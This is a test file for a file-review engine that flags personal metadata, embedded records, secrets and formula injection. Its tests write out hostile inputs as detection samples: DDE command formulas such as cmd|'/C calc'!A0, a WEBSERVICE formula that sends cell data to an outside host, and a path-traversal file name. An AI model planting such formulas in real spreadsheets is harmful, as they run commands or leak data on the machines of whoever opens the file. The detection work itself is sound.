import { cellKey, type PartBlock, type PartKind, type RowsBlock } from '../../../src/engine/model/document';
import type { FileFacts } from '../../../src/engine/model/file';
import { createFileCheck } from '../../../src/engine/report/check-file';
import { RULES } from '../../../src/engine/rules/index';
import { filesToReview, firstPaths } from '../../../src/engine/rules/request-paths';
import type { RuleId } from '../../../src/engine/rules/rule-ids';
import { createTableStream } from '../../../src/engine/tables/table-stream';
import { aBook, FACTS, rows } from '../report/a-check';
import { computed } from '../report/computed';

interface Given {
  readonly facts?: Partial<FileFacts>;
  readonly blocks?: readonly (PartBlock | RowsBlock)[];
  readonly setting?: Readonly<Record<string, unknown>>;
}

function told(rule: RuleId, { facts = {}, blocks = [], setting = {} }: Given): string[] {
  const running = createFileCheck({
    facts: { ...FACTS, ...facts },
    book: aBook({ [rule]: setting }, RULES),
    rules: RULES,
    understand: createTableStream,
  });
  for (const block of blocks) running.push(block);
  return computed(running.end().report)
    .findings.filter((finding) => finding.rule === rule)
    .map(({ outcome, value, message }) => `${outcome} ${value ?? ''}: ${message}`);
}

function part(kind: PartKind, text: string, name?: string): PartBlock {
  return { kind: 'part', part: kind, anchor: name === undefined ? {} : { part: name }, text };
}

/** `n` lines of a grid that is not shown, or drawn. */
function grid(n: number, line: (i: number) => readonly string[], more: object): RowsBlock {
  const block = rows([...Array.from({ length: n + 1 }, (_, i) => line(i - 1))]);
  return { ...block, grid: { id: 'g9', part: 'cache 1', ...more } };
}

describe('personal-metadata', () => {
  const said = (text: string) => told('personal-metadata', { blocks: [part('property', text)] });

  it.each([
    [
      'creator: Rosa Diaz',
      'flagged creator: The properties of the file name somebody (creator: “Rosa Diaz”)',
    ],
    ['Last modified by: rdiaz', 'flagged Last modified by: The properties of the file name somebody'],
    ['Position: 52.1, 4.3', 'flagged Position: The properties of the file say where it was taken'],
    ['GPSLatitude: 52.1', 'flagged GPSLatitude: The properties of the file say where it was taken'],
    ['Serial number: A7', 'flagged Serial number: The properties of the file say which device it comes from'],
    [
      'Template: C:\\Users\\rdiaz\\t.dotx',
      'flagged Template: The properties of the file say whose folder it was made in',
    ],
    [
      'Path: /home/rdiaz/out/t.csv',
      'flagged Path: The properties of the file say whose folder it was made in',
    ],
  ])('%s', (text, expected) => {
    expect(said(text)).toEqual([expect.stringContaining(expected)]);
  });

  it.each([
    'creator: openpyxl',
    'creator: PptxGenJS',
    'author: (unspecified)',
    'creator: R',
    'creator: 7',
    'creator: ',
    'title: Rosa Diaz',
    'Position: unknown',
    'creator: x1',
    'no property',
  ])('but not %s', (text) => {
    expect(said(text)).toEqual([]);
  });

  it('looks at properties alone', () => {
    expect(told('personal-metadata', { blocks: [part('comment', 'creator: Rosa Diaz')] })).toEqual([]);
  });
});

describe('external-link', () => {
  const formula = (written: string) =>
    told('external-link', {
      blocks: [{ ...rows([['a', '1']]), details: new Map([[cellKey(1, 2), { formula: written }]]) }],
    });

  it.each([
    'WEBSERVICE("https://x.example/?q="&A1)',
    'RTD("prog.id",,"a")',
    "cmd|'/C calc'!A0",
    "2+3+cmd|'/C calc'!A0",
  ])('a formula that asks elsewhere: %s', (written) => {
    expect(formula(written)).toEqual([expect.stringContaining(`flagged : A formula (“${written}”) fetches`)]);
  });

  it.each([
    'SUM(A1:A9)',
    'HYPERLINK("https://x.example","more")',
    'IF(A1="web|b",1,0)',
    `IF(A1="IMAGE(x|'y'",1,0)`,
  ])('but not %s', (written) => {
    expect(formula(written)).toEqual([]);
  });
});

describe('what stands behind what is shown', () => {
  const person = (i: number) =>
    i < 0
      ? ['patient_id', 'age', 'sex', 'weight']
      : [`P${100 + i}`, String(20 + ((i * 7) % 60)), i % 2 ? 'F' : 'M', `${50 + ((i * 37) % 41)}.${i % 10}`];
  const pair = (i: number) =>
    i < 0 ? ['x', 'y'] : [`${(i * 37) % 101}.${i % 10}`, `${(i * 53) % 97}.${i % 7}`];
  const counted = (i: number) => (i < 0 ? ['x', 'y', 'n'] : [...pair(i), String(20 + i)]);

  it('is records, or more rows than a person would look through', () => {
    expect(told('embedded-data', { blocks: [grid(60, person, { holds: 'store' })] })).toEqual([
      'flagged 60: 60 records of single people stand in the file behind what is shown, and leave with it.',
    ]);
    expect(told('embedded-data', { blocks: [grid(30, pair, { holds: 'store' })] })).toEqual([
      'unsure 30: 30 rows of data stand in the file behind what is shown: whether they are records, a person must say.',
    ]);
    expect(told('embedded-data', { blocks: [grid(30, pair, { holds: 'marks' })] })).toEqual([
      expect.stringMatching(/^unsure 30: .* behind the marks of a plot/),
    ]);
  });

  it('is nothing where it is small, about groups, or shown', () => {
    expect(told('embedded-data', { blocks: [grid(29, pair, { holds: 'store' })] })).toEqual([]);
    expect(told('embedded-data', { blocks: [grid(40, counted, { holds: 'store' })] })).toEqual([]);
    expect(told('embedded-data', { blocks: [grid(60, person, {})] })).toEqual([]);
    const bars = (i: number) => (i < 0 ? ['label', 'value'] : [`bar ${i}`, `${(i * 53) % 97}.${i % 7}`]);
    expect(told('embedded-data', { blocks: [grid(40, bars, { holds: 'marks' })] })).toEqual([]);
  });

  it('is said once of a cache that comes as a part and as a grid', () => {
    const cache = part('pivot-cache', '60 rows', 'cache 1');
    expect(told('embedded-data', { blocks: [cache, grid(60, person, { holds: 'store' })] })).toEqual([
      'flagged pivot-cache: A copy of the data behind a pivot table is kept in the file (“60 rows”): it leaves whole.',
    ]);
    expect(told('embedded-data', { blocks: [part('comment', 'x')] })).toEqual([]);
  });

  it('is marks of a plot, one for a record', () => {
    const found = (n: number, line: (i: number) => readonly string[]) =>
      told('plotted-points', { blocks: [grid(n, line, { holds: 'marks' })] }).map(
        (line) => line.split(':')[0],
      );
    expect(found(30, pair)).toEqual(['flagged 1']);
    expect(found(29, pair)).toEqual(['unsure ']);
    expect(found(3, pair)).toEqual(['unsure ']);
    expect(found(2, pair)).toEqual([]);
    expect(found(40, counted)).toEqual([]);
    const series = (i: number) => (i < 0 ? ['group', 'y'] : [`arm ${i % 2}`, `${(i * 53) % 97}.${i % 7}`]);
    expect(found(40, series)).toEqual(['flagged 1']);
    const bars = (i: number) => (i < 0 ? ['label', 'value'] : [`bar ${i}`, `${(i * 53) % 97}.${i % 7}`]);
    expect(found(40, bars)).toEqual([]);
    const years = (i: number) =>
      i < 0 ? ['year', 'value'] : [String(1980 + i), `${(i * 53) % 97}.${i % 7}`];
    expect(found(40, years)).toEqual([]);
  });
});

describe('parts of a file', () => {
  it.each<[RuleId, PartKind, string, string]>([
    [
      'file-name',
      'entry-name',
      'leads out of its folder',
      'flagged ../a: The name “../a” leads out of its folder, so it could go astray',
    ],
    [
      'type-mismatch',
      'disagreement',
      'two directories',
      'flagged disagreement: Programs may show something else than what was checked: two directories.',
    ],
    [
      'type-mismatch',
      'special-entry',
      'is a link',
      'flagged special-entry: An entry is a link: unpacking it makes something else',
    ],
    [
      'encoded-payload',
      'appended-bytes',
      '12 kB',
      'flagged appended-bytes: Behind the end of the file come 12 kB',
    ],
    ['model-object', 'model', 'a saved model', 'flagged : This is a saved model: what it holds'],
    [
      'direct-identifier',
      'list',
      'Anna Roth\nNils Moen\nHansen, Kari\nother',
      'flagged : Here stands a list of people’s names, to choose from',
    ],
    [
      'direct-identifier',
      'property',
      'keywords: Anna Roth, Ola Nordmann, Kari Hansen',
      'list of people’s names',
    ],
    ['secret', 'comment', 'password: hunter2hunter2', 'flagged : A password or key stands here'],
  ])('%s reads %s', (rule, kind, text, expected) => {
    expect(told(rule, { blocks: [part(kind, text, '../a')] })).toEqual([expect.stringContaining(expected)]);
  });

  it.each<[RuleId]>([
    ['file-name'],
    ['type-mismatch'],
    ['encoded-payload'],
    ['model-object'],
    ['embedded-data'],
  ])('%s leaves other parts alone', (rule) => {
    expect(told(rule, { blocks: [part('image', 'a picture', 'x')] })).toEqual([]);
  });

  it('cuts what is said at length', () => {
    const long = 'x'.repeat(1000);
    expect(told('type-mismatch', { blocks: [part('disagreement', long)] })[0]?.length).toBeLessThan(450);
    expect(told('model-object', { blocks: [part('model', long)] })[0]?.length).toBeLessThan(450);
    expect(told('model-object', { blocks: [part('model', 'x'.repeat(400))] })[0]).toContain('x'.repeat(400));
  });
});

describe('a file by its facts', () => {
  it('malware is what a scanner says, and what it does not', () => {
    expect(told('malware', {})).toEqual([]);
    expect(told('malware', { facts: { malware: { known: true } } })).toEqual([]);
    expect(told('malware', { facts: { malware: { known: true, name: 'Eicar-Test' } } })).toEqual([
      expect.stringMatching(/^flagged Eicar-Test: A virus scanner knows this file as “Eicar-Test”/),
    ]);
    expect(told('malware', { facts: { malware: { known: false, reason: 'no answer' } } })).toEqual([
      'unsure : The virus scanner did not judge this file: “no answer”.',
    ]);
  });

  it('size-limit counts in megabytes, rounded up', () => {
    expect(told('size-limit', { facts: { bytes: 1_000_000 } })).toEqual([]);
    expect(told('size-limit', { facts: { bytes: 1_000_001 } })).toEqual([
      'flagged 1000001: This file has 1.1 MB; the rulebook allows at most 1 MB, because results are small and data are large.',
    ]);
  });

  it('type-mismatch compares what the name and the bytes say', () => {
    const facts = (extension: string, format: string, more: Partial<FileFacts> = {}) =>
      told('type-mismatch', { facts: { extension, format, ...more } });
    expect(facts('csv', 'txt')).toEqual([]);
    expect(facts('csv', 'xlsx')).toEqual([
      expect.stringMatching(/^flagged xlsx: The name says “csv”, the bytes are of the type “xlsx”/),
    ]);
    expect(facts('XLSX', 'csv')).toHaveLength(1);
    expect(facts('htm', 'html')).toEqual([]);
    expect(facts('json', 'jsonl')).toEqual([]);
    expect(facts('json', 'txt')).toEqual([]);
    expect(facts('json', 'csv')).toHaveLength(1);
    expect(facts('js', 'gif')).toHaveLength(1);
    expect(facts('txt', 'html')).toHaveLength(1);
    expect(facts('anything', 'pdf')).toEqual([]);
    expect(facts('xlsx', 'csv', { bytes: 0 })).toEqual([]);
    expect(facts('pdf', 'pdf', { alsoFormat: 'zip' })).toEqual([
      expect.stringMatching(/^flagged zip: The bytes are of the type “pdf” and of the type “zip” too/),
    ]);
  });

  it('file-name judges what is in an archive by its own name', () => {
    const facts = { path: 'bad\u200b.zip!/t.csv', archive: 'bad\u200b.zip' };
    expect(told('file-name', { facts })).toEqual([]);
    expect(told('file-name', { facts: { path: 'a.zip!/../t.csv', archive: 'a.zip' } })).toHaveLength(1);
    expect(told('file-name', { facts: { path: 'a\u200bb.csv' } })).toEqual([
      expect.stringContaining('“a[U+200B]b.csv” has characters that cannot be seen'),
    ]);
  });
});

describe('the rows of a file', () => {
  const table = (n: number, sheet: string) =>
    rows(
      [['ward', 'patients'], ...Array.from({ length: n }, (_, i) => [`ward ${i}`, String(20 + i)])],
      sheet,
    );
  const found = (...tables: RowsBlock[]) =>
    told('too-many-rows', { blocks: tables, setting: { allow: '<= 50' } });

  it('are counted a table, and together once', () => {
    expect(found(table(50, 'a'))).toEqual([]);
    expect(found(table(51, 'a'))).toEqual([
      'flagged 51: 51 rows: more than a person can review with care. The rulebook allows at most 50.',
    ]);
    expect(found(table(30, 'a'), table(20, 'b'))).toEqual([]);
    expect(found(table(30, 'a'), table(21, 'b'), table(20, 'c'))).toEqual([
      'flagged 51: 51 rows in the tables of this file so far: more than a person can review with care. The rulebook allows at most 50.',
    ]);
  });

  it('and lines of a text are lines', () => {
    const lines = (n: number, from = 1) => ({
      kind: 'lines' as const,
      firstLine: from,
      lines: Array.from({ length: n }, () => 'x'),
      last: from > 1 || n < 40,
    });
    const running = (n: number) => {
      const check = createFileCheck({
        facts: FACTS,
        book: aBook({ 'too-many-rows': { allow: '<= 50' } }, RULES),
        rules: RULES,
        understand: createTableStream,
      });
      check.push(lines(40));
      check.push(lines(n - 40, 41));
      return computed(check.end().report).findings.map(({ rule, value }) => `${rule} ${value ?? ''}`);
    };
    expect(running(50)).toEqual([]);
    expect(running(51)).toEqual(['too-many-rows 51']);
  });
});

describe('the files of a request', () => {
  const files = (...paths: readonly string[]) => paths.map((path) => ({ path, bytes: 1 }));

  it('are the entries of an archive instead of it, however deep', () => {
    const all = files('a.zip', 'a.zip!/b.zip', 'a.zip!/b.zip!/c.csv', 'a.zip!/d.csv', 'e.csv');
    expect(filesToReview(all).map(({ path }) => path)).toEqual([
      'a.zip!/b.zip!/c.csv',
      'a.zip!/d.csv',
      'e.csv',
    ]);
    expect(filesToReview(files('empty.zip')).map(({ path }) => path)).toEqual(['empty.zip']);
  });

  it('are named up to a hundred', () => {
    expect(firstPaths(files(...Array.from({ length: 101 }, (_, i) => String(i))))).toHaveLength(100);
    expect(firstPaths(files('a'))).toEqual([{ path: 'a' }]);
  });
});

describe('formula-injection', () => {
  const cells = (text: string, format: FileFacts['format'] = 'csv') =>
    told('formula-injection', { facts: { format }, blocks: [rows([['a', text]])] }).length;

  it.each([
    '=1+1',
    '=SUM(A1:A9)',
    '+cmd|x',
    '-2+3',
    '@SUM(A1)',
    '-A1',
    '=HYPERLINK("x")',
    '- see(x)',
    '-1*(2)',
    `- ${'x'.repeat(130)}!`,
    `=${'1'.repeat(130)}`,
    '-infinity pool',
  ])('finds %s', (text) => {
    expect(cells(text)).toBe(1);
  });

  it.each([
    '-2.4',
    '+3.1 %',
    '==1',
    '=1',
    '-',
    '--',
    '+++',
    '- Female',
    '-0.16*** (0.02)',
    '-inf',
    '- Infinity',
    '-1.2e-5',
    '-3 to 4',
    '- = figure suppressed',
    `- ${'x'.repeat(130)}`,
    '-0.4 [-0.9; 0.1]',
    '-5 kg',
  ])('leaves %s', (text) => {
    expect(cells(text)).toBe(0);
  });

  it('is of text formats alone', () => {
    expect(cells('=SUM(A1:A9)', 'xlsx')).toBe(0);
    expect(cells('=SUM(A1:A9)', 'tsv')).toBe(1);
  });
});
